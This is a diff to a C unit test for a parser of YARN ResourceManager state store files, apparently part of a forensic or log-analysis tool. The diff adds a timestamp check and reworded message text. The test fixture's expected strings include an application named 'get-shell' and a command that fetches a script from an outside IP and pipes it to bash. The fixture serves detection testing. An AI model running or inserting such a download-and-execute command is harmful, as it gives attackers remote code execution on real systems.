@@ -205,10 +205,12 @@ static void test_rmstore(void)
     CHECK_INT(feed_state(&h, path, &flat), TY_OK);
     CHECK_SPAN(ty_event_str(&h.last, TY_F_TARGET), "application_1788526338611_0035");
     CHECK_SPAN(ty_event_str(&h.last, TY_F_MESSAGE),
-               "protobuf not in the ApplicationStateDataProto layout; its strings: "
+               "protobuf not in the ApplicationStateDataProto layout (time: field 1 read as "
+               "submit_time); its strings: "
                "application_1788526338611_0035 | get-shell | curl -fsSL "
                "http://198.51.100.61/y.sh | bash");
     CHECK_STR(h.ctx.shape, "YARN RM state store file (unknown layout)");
+    CHECK_INT(ty_event_int(&h.last, TY_F_TS, 0), INT64_C(1788833625000) * 1000000);
     ty_buf_init(&b, 0);
     ty_parser_yarn_rmstore.fields(&h.last, collect, &b);
     CHECK(ty_str_contains(ty_buf_str(&b), ";strings=application_1788526338611_0035 | get-shell"));
